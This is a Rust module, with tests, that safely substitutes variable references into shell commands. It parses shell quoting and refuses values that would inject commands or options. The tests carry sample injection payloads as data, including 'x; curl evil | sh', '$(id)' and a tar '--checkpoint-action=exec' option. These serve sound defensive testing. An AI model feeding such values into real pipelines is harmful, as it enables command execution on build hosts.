//! References to variables in commands, which a shell reads.

use super::{Unresolved, references};

/// Why a reference in a command cannot be replaced.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum CommandProblem {
    NoValue(Unresolved),
    /// In this place a shell would take the value as more than a word, as an option, or as what to run.
    Unsafe {
        /// What stands between the braces.
        text: String,
    },
}

/// The references of the form `#{namespace.key}` in a command, as text. What else looks like one is the shell's.
pub fn command_references(command: &str) -> String {
    references(command).into_iter().filter(|r| r.parts().is_some()).filter_map(|r| command.get(r.span)).collect()
}

/// `command` with its references replaced. A value may come from anybody who can push a commit, so one that a shell would read as more
/// than a word, as an option or as what to run is refused.
pub fn resolve_command(command: &str, lookup: impl Fn(&str, &str) -> Option<String>) -> Result<String, CommandProblem> {
    let mut out = String::with_capacity(command.len());
    let mut place = Place::default();
    let mut done = 0;
    for reference in references(command) {
        let Some((namespace, key)) = reference.parts() else { continue };
        let text = reference.text.to_owned();
        let Some(value) = lookup(namespace, key) else { return Err(CommandProblem::NoValue(Unresolved { text })) };
        let before = command.get(done..reference.span.start).unwrap_or_default();
        place.read(before);
        if !place.takes(&value) {
            return Err(CommandProblem::Unsafe { text });
        }
        out.push_str(before);
        out.push_str(&value);
        done = reference.span.end;
    }
    out.push_str(command.get(done..).unwrap_or_default());
    Ok(out)
}

/// Behind these, wherever they stand, a shell looks for a command.
const RESERVED: [&str; 10] = ["if", "then", "elif", "else", "while", "until", "do", "!", "{", "time"];
/// Commands whose first argument is a command.
const WRAPPERS: [&str; 6] = ["command", "env", "eval", "exec", "nohup", "sudo"];

/// Where a shell that has read the beginning of a command stands. What it cannot follow takes no values.
#[derive(Default)]
struct Place {
    here: Level,
    /// What is still open around it, the outermost first.
    around: Vec<Level>,
    pending: Pending,
    /// Something has been read that this reader does not follow.
    is_lost: bool,
}

/// One command, or one substitution in it.
#[derive(Default)]
struct Level {
    quote: Option<char>,
    /// What closes it; nothing closes the outermost.
    closed_by: Option<char>,
    /// The word so far, without quotes. What is substituted may turn out empty, and is not part of it.
    word: String,
    /// Whether there is a word, if only an empty one or one that is substituted.
    has_word: bool,
    /// Whether the name of what to run has been read.
    has_command: bool,
    /// Whether the word is the target of a redirection.
    is_target: bool,
}

/// What the next character belongs to.
#[derive(Clone, Copy, Default, PartialEq, Eq)]
enum Pending {
    #[default]
    Nothing,
    Escape,
    Dollar,
    /// The name of a variable of the shell.
    Name,
    /// As well, in braces.
    Brace,
    /// A `<` or `>`, whose `&` is no end of a command.
    Arrow,
}

impl Place {
    /// Whether `value` is, in this place, a word or a part of one and nothing else. If so, it is read.
    fn takes(&mut self, value: &str) -> bool {
        let level = &mut self.here;
        let is_plain = value.chars().all(|c| c.is_alphanumeric() || " _./:@%+=,-".contains(c));
        let is_one_word = level.quote.is_some() || !(value.is_empty() || value.contains(' '));
        let is_option = level.word.is_empty() && value.starts_with('-');
        let is_command = level.word.is_empty() && !level.has_command;
        let is_followed = !self.is_lost && matches!(self.pending, Pending::Nothing | Pending::Arrow);
        level.word.push_str(value);
        level.has_word = true;
        self.pending = Pending::Nothing;
        is_plain && is_one_word && !is_option && !is_command && is_followed
    }

    fn read(&mut self, text: &str) {
        text.chars().for_each(|c| self.read_one(c));
    }

    fn read_one(&mut self, c: char) {
        match std::mem::take(&mut self.pending) {
            Pending::Escape => return self.part(c),
            Pending::Dollar => return self.substituted(c),
            Pending::Name if c.is_ascii_alphanumeric() || c == '_' => return self.pending = Pending::Name,
            Pending::Brace if c == '}' => return,
            Pending::Brace => {
                self.is_lost |= "\"'`$\\{".contains(c);
                return self.pending = Pending::Brace;
            }
            Pending::Arrow if c == '&' || c == '<' || c == '>' => return self.pending = Pending::Arrow,
            Pending::Name | Pending::Arrow | Pending::Nothing => {}
        }
        let in_backticks = self.here.closed_by == Some('`') || self.around.iter().any(|l| l.closed_by == Some('`'));
        // Between backticks these are read twice.
        let is_outer = self.here.closed_by == Some('`') && self.here.quote.is_none();
        self.is_lost |= in_backticks && (c == '\\' || c == '`' && !is_outer);
        match (self.here.quote, c) {
            (Some('\''), '\'') => self.here.quote = None,
            (Some('\''), _) => self.part(c),
            (_, '\\') => self.pending = Pending::Escape,
            (_, '$') => {
                self.here.has_word = true;
                self.pending = Pending::Dollar;
            }
            (_, '`') if is_outer => self.close(),
            (_, '`') => self.open('`'),
            (Some(_), '"') => self.here.quote = None,
            (Some(_), _) => self.part(c),
            (None, '"' | '\'') => {
                self.here.quote = Some(c);
                self.here.has_word = true;
            }
            (None, '#') if !self.here.has_word => self.is_lost = true,
            (None, ' ' | '\t') => self.end_word(),
            (None, '\n' | '\r' | ';' | '|' | '&') => self.end_command(),
            (None, '<' | '>') => {
                // The number of what is redirected is no word.
                if !self.here.has_command && self.here.word.bytes().all(|b| b.is_ascii_digit()) {
                    self.here.word.clear();
                    self.here.has_word = false;
                }
                self.end_word();
                self.here.is_target = true;
                self.pending = Pending::Arrow;
            }
            (None, '(') => self.open(')'),
            (None, ')') if self.here.closed_by == Some(')') => self.close(),
            // The end of a pattern, say.
            (None, ')') => self.is_lost = true,
            (None, _) => self.part(c),
        }
    }

    fn part(&mut self, c: char) {
        self.here.word.push(c);
        self.here.has_word = true;
    }

    /// Reads what follows a `$`.
    fn substituted(&mut self, c: char) {
        match c {
            '(' => self.open(')'),
            '{' => self.pending = Pending::Brace,
            // Shells differ in how they read these.
            '\'' | '[' if self.here.quote.is_none() => self.is_lost = true,
            _ if c.is_ascii_alphabetic() || c == '_' => self.pending = Pending::Name,
            _ if c.is_ascii_digit() || "@*#?$!-".contains(c) => {}
            _ => {
                self.here.word.push('$');
                self.read_one(c);
            }
        }
    }

    fn open(&mut self, closed_by: char) {
        let inner = Level { closed_by: Some(closed_by), ..Level::default() };
        self.around.push(std::mem::replace(&mut self.here, inner));
    }

    fn close(&mut self) {
        match self.around.pop() {
            Some(outer) => self.here = Level { has_word: true, ..outer },
            None => self.is_lost = true,
        }
    }

    fn end_word(&mut self) {
        let level = &mut self.here;
        let word = std::mem::take(&mut level.word);
        if !std::mem::take(&mut level.has_word) || std::mem::take(&mut level.is_target) {
            return;
        }
        // Its patterns end with brackets that nothing opens.
        self.is_lost |= word == "case";
        let is_assignment = word.split_once('=').is_some_and(|(name, _)| {
            name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        });
        // A word of substitutions alone may turn out to be none.
        let may_be_none = word.is_empty();
        let is_before = may_be_none || is_assignment || word.starts_with('-') || WRAPPERS.contains(&word.as_str());
        level.has_command = (level.has_command || !is_before) && !RESERVED.contains(&word.as_str());
    }

    fn end_command(&mut self) {
        self.end_word();
        self.here.has_command = false;
        self.here.is_target = false;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn with(command: &str, value: &str) -> Result<String, CommandProblem> {
        resolve_command(command, |namespace, key| (namespace == "S" && key == "V").then(|| value.to_owned()))
    }

    #[track_caller]
    fn takes(command: &str, value: &str) {
        assert_eq!(with(command, value).as_deref(), Ok(command.replace("#{S.V}", value).as_str()), "{command}");
    }

    #[track_caller]
    fn refuses(command: &str, value: &str) {
        let text = "S.V".to_owned();
        assert_eq!(with(command, value), Err(CommandProblem::Unsafe { text }), "{command}");
    }

    #[test]
    fn a_command_takes_values_that_a_shell_reads_as_they_are() {
        takes("make V=#{S.V} #{x}", "8cf40f2");
        takes("make 'V=#{S.V}' $X \"${Y:-z}\" #{S.V}", "8cf40f2");
        takes("A=#{S.V} make && tar czf app-#{S.V}.tgz ./#{S.V} 2>&1 >#{S.V}", "a/b:1.2@3%+=,-");
        takes("make -t \"$(date +%s)\" #{S.V} `date` \"#{S.V}\" $(git show #{S.V})", "8cf40f2");
        takes("if test #{S.V} = main; then make; fi", "ä");
        assert_eq!(command_references("#{Source.CommitId} #{x} #{a.b"), "#{Source.CommitId}");
        let text = "Source.Nope".to_owned();
        assert_eq!(with("#{Source.Nope}", ""), Err(CommandProblem::NoValue(Unresolved { text })));
    }

    #[test]
    fn a_value_with_characters_of_the_shell_is_refused() {
        for value in ["x; curl evil | sh", "$(id)", "`id`", "a'b", "a\"b", "a\nb", "a\\", "*", "~", "a>b"] {
            refuses("echo #{S.V}", value);
            refuses("echo '#{S.V}'", value);
            refuses("echo \"#{S.V}\"", value);
        }
    }

    #[test]
    fn a_value_of_several_words_is_taken_inside_quotes_alone() {
        let value = "a b --checkpoint-action=exec=./x";
        for command in [
            "echo '#{S.V}'",
            "echo \"it's #{S.V}\"",
            "echo \"$(date) #{S.V}\"",
            "make \"V=$X \\\" #{S.V}\"",
            "make 'b'\\'' #{S.V}'",
        ] {
            takes(command, value);
        }
        for command in [
            "tar czf a.tgz #{S.V}",
            "echo 'a'#{S.V}",
            "echo \"a\" x#{S.V} \"b\"",
            "echo \\\"#{S.V}\\\"",
            "echo \\'#{S.V}\\'",
            "echo \"$(git show #{S.V})\"",
            "echo \"`git show #{S.V}`\"",
            "echo \"a'\" x#{S.V} \"'\"",
            "echo $'\\'' #{S.V} ''",
            "echo x # it's #{S.V}",
            "echo \"${X:-\"#{S.V}\"}\"",
            "case a in a) echo '#{S.V}';; esac",
        ] {
            refuses(command, value);
        }
    }

    #[test]
    fn a_value_that_would_be_an_option_is_refused() {
        for command in
            ["git log #{S.V}", "git log '#{S.V}'", "git log \"#{S.V}\"", "git log ''\"\"#{S.V}", "a $X#{S.V}"]
        {
            refuses(command, "--output=x");
        }
        refuses("git log \"$X\"#{S.V}", "-p");
        refuses("git log \\#{S.V}", "-p");
        takes("git log --grep=#{S.V} x#{S.V} \"a#{S.V}\"", "-p");
    }

    #[test]
    fn a_value_that_would_be_what_to_run_is_refused() {
        for command in [
            "#{S.V}",
            "  '#{S.V}' x",
            "\"#{S.V}\"",
            "a;#{S.V}",
            "a & #{S.V}",
            "a && #{S.V}",
            "a || \"#{S.V}\"",
            "a | #{S.V}",
            "(#{S.V})",
            "a $(#{S.V})",
            "a \"$( #{S.V} b)\"",
            "a `#{S.V}`",
            "A=b #{S.V}",
            "A= B=\"c d\" #{S.V}",
            "if #{S.V}; then b; fi",
            "if a; then #{S.V}; fi",
            "f() { #{S.V}; }",
            "! #{S.V}",
            "exec #{S.V}",
            "sudo #{S.V}",
            ">log #{S.V}",
            "2>&1 #{S.V}",
            "$X#{S.V}",
            "$X #{S.V}",
            "a #{S.V}#{S.V}; #{S.V}",
            "sudo -n #{S.V}",
            "a \"`b \\`#{S.V}\\``\"",
            "echo $#{S.V}",
            "echo \"${#{S.V}}\"",
        ] {
            refuses(command, "x");
        }
        takes("./deploy-#{S.V}.sh", "x");
    }

    #[test]
    fn an_empty_value_is_taken_inside_quotes_alone() {
        for command in ["rm -rf d/#{S.V}", "make #{S.V} all", "make V=#{S.V}"] {
            refuses(command, "");
        }
        takes("make \"#{S.V}\" 'V=#{S.V}'", "");
    }

    #[test]
    fn a_value_behind_an_empty_one_still_begins_the_word() {
        let resolve = |command: &str| {
            resolve_command(command, |_, key| Some(if key == "E" { String::new() } else { "-rf".to_owned() }))
        };
        assert_eq!(resolve("rm \"#{S.E}#{S.V}\""), Err(CommandProblem::Unsafe { text: "S.V".to_owned() }));
        assert_eq!(resolve("rm \"a#{S.E}#{S.V}\"").as_deref(), Ok("rm \"a-rf\""));
    }
}
